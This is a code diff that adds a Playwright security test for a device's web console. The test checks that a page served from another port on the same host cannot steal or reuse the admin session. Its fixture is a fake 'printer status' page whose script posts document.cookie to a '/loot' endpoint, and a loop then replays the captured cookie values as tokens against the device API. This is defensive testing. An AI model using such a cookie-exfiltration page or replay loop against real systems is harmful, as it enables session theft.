@@ -1,4 +1,5 @@
 import { chromium } from '@playwright/test';
+import { SESSION_BINDING_COOKIE } from '@tac/goform/contract';
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { ADMIN, OPERATOR } from '../support/accounts';
@@ -125,5 +126,58 @@ test.describe('a drive-by page on another origin', () => {
     await login(page, ADMIN);
     expect((await goform(request, 'SetDebugParam')).mode).toBe('normal');
     await browser.close();
+  });
+});
+
+test.describe('a page served from another port of the device\'s host', () => {
+  // Cookies are not scoped by port: what the device sets, the browser also hands to this server.
+  let server: Server;
+  let received: { cookieHeader: string; pageRead: string } = { cookieHeader: '', pageRead: '' };
+  let pageUrl = '';
+  test.beforeAll(async ({ baseURL }) => {
+    const body = `<!doctype html><title>printer status</title><script>
+      fetch('/loot', { method: 'POST', body: document.cookie });
+    </script>`;
+    server = createServer((req, res) => {
+      if (req.url !== '/loot') return res.writeHead(200, { 'content-type': 'text/html' }).end(body);
+      let pageRead = '';
+      req.on('data', (chunk: Buffer) => (pageRead += chunk.toString()));
+      req.on('end', () => {
+        received = { cookieHeader: req.headers.cookie ?? '', pageRead };
+        res.writeHead(204).end();
+      });
+    });
+    await new Promise<void>((listening) => server.listen(0, new URL(baseURL!).hostname, listening));
+    pageUrl = `http://${new URL(baseURL!).hostname}:${(server.address() as AddressInfo).port}/status`;
+  });
+  test.afterAll(() => new Promise<void>((closed) => server.close(() => closed())));
+
+  test('neither reads the console\'s session nor can use what the browser sends it', async ({ page, baseURL }) => {
+    await login(page, ADMIN);
+    const token = await page.evaluate(() => localStorage.getItem('Admin-Token'));
+    expect(token).toBeTruthy();
+
+    const loot = page.waitForRequest((r) => r.url().endsWith('/loot'));
+    await page.goto(pageUrl);
+    await (await loot).response();
+    // The script there reads no session; the server there gets the device's cookies, the binding among them.
+    expect(received.pageRead).not.toContain(token!);
+    expect(received.pageRead).not.toContain(SESSION_BINDING_COOKIE);
+    expect(received.cookieHeader).toContain(`${SESSION_BINDING_COOKIE}=`);
+
+    // Whatever it holds, tried as a token with those cookies, opens nothing on the device.
+    const values = [...received.cookieHeader.split(';'), ...received.pageRead.split(';')]
+      .map((pair) => pair.split('=').slice(1).join('='))
+      .filter(Boolean);
+    for (const candidate of values) {
+      const answer = await fetch(`${baseURL}/goform/checkPower`, {
+        method: 'POST',
+        headers: { cookie: received.cookieHeader, 'x-token': decodeURIComponent(candidate), 'x-requested-with': 'XMLHttpRequest' },
+      });
+      expect(await answer.json(), `tried ${candidate.slice(0, 12)}…`).toMatchObject({ code: 'fail', retvalue: 40104 });
+    }
+    // The console itself still works with both halves.
+    await page.goBack();
+    await expect(page.getByRole('button', { name: en.shell.navbar.userMenu })).toBeVisible();
   });
 });
